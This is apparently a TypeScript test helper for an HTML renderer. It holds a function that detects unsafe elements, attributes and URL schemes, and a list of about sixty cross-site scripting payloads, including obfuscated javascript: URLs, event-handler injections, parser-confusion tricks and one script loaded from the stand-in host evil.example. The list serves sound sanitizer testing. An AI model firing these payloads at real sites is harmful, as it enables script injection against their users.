// What attackers send, written for this project, and what must never be found in what we write out.

/** Everything in a document that could run, load or style: as "element" or "element[attribute]". */
export function hostileParts(document: Document): string[] {
  return [...document.querySelectorAll('body *')].flatMap((element) => {
    const name = element.localName
    const parts = ALLOWED.has(name) ? [] : [name]
    for (const attribute of element.getAttributeNames()) {
      const value = element.getAttribute(attribute) ?? ''
      if (/^on|^style$|^srcdoc$|^xmlns|:/.test(attribute)) parts.push(`${name}[${attribute}]`)
      if (/^(href|src|cite|srcset)$/.test(attribute) && !isSafe(value))
        parts.push(`${name}[${attribute}=${value}]`)
    }
    return parts
  })
}

/** Exactly the elements that the renderer writes. */
const ALLOWED = new Set([
  ...[
    'p',
    'h2',
    'h3',
    'h4',
    'ul',
    'ol',
    'li',
    'blockquote',
    'footer',
    'aside',
    'div',
    'figure',
    'figcaption',
  ],
  ...[
    'picture',
    'source',
    'img',
    'table',
    'caption',
    'thead',
    'tbody',
    'tr',
    'th',
    'td',
    'pre',
    'code',
    'hr',
  ],
  ...['a', 'strong', 'em', 'u', 's', 'sup', 'sub', 'span', 'br'],
])

function isSafe(address: string): boolean {
  // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers drop these before they look at the scheme
  const seen = address.replaceAll(/[\u0000-\u0020]/g, '')
  return !/^[^/?#]*:/.test(seen.replace(/^(https?|mailto|tel):/i, ''))
}

export const HOSTILE_HTML = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" alt="a picture">',
  '<img src=x:alert(1) onerror=eval(src)>',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav\nascript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="https://x.example/" onclick="alert(1)">x</a>',
  '<a href="https://x.example/&quot; onmouseover=&quot;alert(1)">x</a>',
  '<a data-video="youtube:x&quot; onload=&quot;alert(1)" href="javascript:alert(1)">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abc&quot;><script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html,<script>alert(1)</script>">',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<audio src="javascript:alert(1)">',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="text-align:center;behavior:url(x.htc)">x</p>',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary>y</details>',
  '<body onload=alert(1)>',
  '<table background="javascript:alert(1)"><tr><td onclick=alert(1)>x</td></tr></table>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--nextpage--><!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<figure data-medium="knee" data-alt="&quot; onload=&quot;alert(1)" data-credit="<script>alert(1)</script>"></figure>',
  '<aside data-callout="<img src=x onerror=alert(1)>"><p>x</p></aside>',
  '<aside data-pull-quote data-attribution="<script>alert(1)</script>">x</aside>',
  '<blockquote cite="javascript:alert(1)"><p>x</p></blockquote>',
  '<table data-caption="&quot;><script>alert(1)</script>"><tr><td>x</td></tr></table>',
  '<pre><code class="language-js&quot; onclick=&quot;alert(1)">&lt;script&gt;alert(1)&lt;/script&gt;</code></pre>',
  '<ol data-references><li data-ref-id="a">&lt;script&gt;10.5555/"onx="alert(1)</li></ol><p>x<sup data-ref="a"></sup></p>',
  '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  '<template><script>alert(1)</script></template>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<marquee onstart=alert(1)>x</marquee>',
]
